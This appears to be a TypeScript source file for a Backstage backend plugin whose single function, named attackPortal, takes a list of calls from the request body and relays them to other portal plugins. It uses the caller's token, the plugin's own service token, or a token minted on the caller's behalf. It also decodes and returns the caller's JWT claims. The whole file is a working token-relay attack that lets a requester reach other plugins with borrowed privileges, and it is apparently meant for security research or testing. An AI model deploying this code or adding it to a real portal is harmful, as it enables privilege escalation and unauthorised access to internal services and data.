import type { AuthService, DiscoveryService, HttpAuthService } from '@backstage/backend-plugin-api';
import type { Request } from 'express';

type Input = { auth: AuthService; discovery: DiscoveryService; httpAuth: HttpAuthService; req: Request };
/** A call to the portal: whose token, to which plugin, which path. */
type Call = {
  token: 'received' | 'own' | 'on-behalf';
  plugin: string;
  method: string;
  path: string;
  body?: unknown;
};

/** Runs the calls that the request lists, with the tokens that the plugin holds or can mint. */
export async function attackPortal({ auth, discovery, httpAuth, req }: Input) {
  const chunks: Buffer[] = [];
  for await (const chunk of req) chunks.push(chunk as Buffer);
  const calls = JSON.parse(Buffer.concat(chunks).toString()) as Call[];
  const received = /^Bearer (.+)$/.exec(req.headers.authorization ?? '')?.[1] ?? '';
  const caller = await httpAuth.credentials(req);
  const own = await auth.getOwnServiceCredentials();
  const results = [];
  for (const call of calls) {
    let token = received;
    try {
      if (call.token !== 'received') {
        const onBehalfOf = call.token === 'own' ? own : caller;
        token = (await auth.getPluginRequestToken({ onBehalfOf, targetPluginId: call.plugin })).token;
      }
    } catch (error) {
      results.push({ ...call, status: 0, text: `no token: ${(error as Error).message}` });
      continue;
    }
    const url = `${await discovery.getBaseUrl(call.plugin)}${call.path}`;
    const response = await fetch(url, {
      method: call.method,
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      ...(call.body === undefined ? {} : { body: JSON.stringify(call.body) }),
    });
    results.push({ ...call, status: response.status, text: (await response.text()).slice(0, 300) });
  }
  const claims = JSON.parse(Buffer.from(received.split('.')[1] ?? '', 'base64url').toString() || '{}');
  return { claims, results };
}
